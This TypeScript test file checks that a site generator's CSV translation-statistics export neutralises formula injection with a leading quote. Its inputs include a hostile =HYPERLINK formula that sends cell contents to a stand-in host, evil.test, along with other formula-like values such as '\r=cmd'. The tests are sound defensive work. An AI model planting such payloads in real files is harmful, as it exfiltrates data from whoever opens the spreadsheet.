/**
 * Issue 22, item 7: a text in the CSV stats exports that a spreadsheet would read as a formula
 * (a language name `=HYPERLINK(…)`, `@SUM(…)`, `-5`) is written neutralised, as OWASP advises:
 * a `'` before it and the cell quoted. Other cells keep Weblate's bytes.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildInMemory, tempDir, writeFiles } from '../helpers.ts';

/** The CSV export of a component whose Czech is named `name`, built from real files. */
async function componentExport(name: string): Promise<string[]> {
  const content = join(tempDir(), 'content');
  writeFiles(content, {
    'site.yaml': 'base_url: http://snapshot.test\npages: true\n',
    'languages/cs.yaml': `name: ${JSON.stringify(name)}\n`,
    'projects/p/project.yaml': 'name: P\n',
    'projects/p/components/c.yaml': [
      'name: C',
      'source_language: en',
      'repo: https://git.test/r.git',
      'filemask: po/*.po',
      'file_format: po',
      'source: {total: 4}',
      'translations:',
      '  cs: {translated: 2, last_change: 2024-05-02T10:20:05Z}',
      '',
    ].join('\n'),
  });
  const built = await buildInMemory(content);
  expect(built.report.errors).toEqual([]);
  const csv = built.files.get('exports/stats/p/c/index.csv');
  if (csv === undefined) throw new Error('no CSV export written');
  return csv.split('\r\n');
}

describe('the CSV stats export of content with formula-like texts', () => {
  it('writes a language name starting with "=" as a quoted text with a leading quote', async () => {
    const lines = await componentExport('=HYPERLINK("http://evil.test/?"&A1,"Czech")');
    expect(lines[1]).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""Czech""\)",cs,4,2,/);
  });

  it.each(['@SUM(A1:A9)', '+1+1', '-5', '\tTab', '\r=cmd'])(
    'neutralises a name %j the same way',
    async (name) => {
      const lines = await componentExport(name);
      expect(lines.join('\r\n')).toContain(`\r\n"'${name}",cs,4,2,`);
    },
  );

  it('keeps a plain name, a URL and a timestamp as Weblate writes them', async () => {
    const lines = await componentExport('Czech, "CZ"');
    expect(lines[1]).toMatch(/^"Czech, ""CZ""",cs,4,2,50\.0,/);
    expect(lines[1]).toContain(',http://snapshot.test/projects/p/c/cs/,');
    expect(lines[1]).toContain(',2024-05-02 10:20:05+00:00,');
  });
});
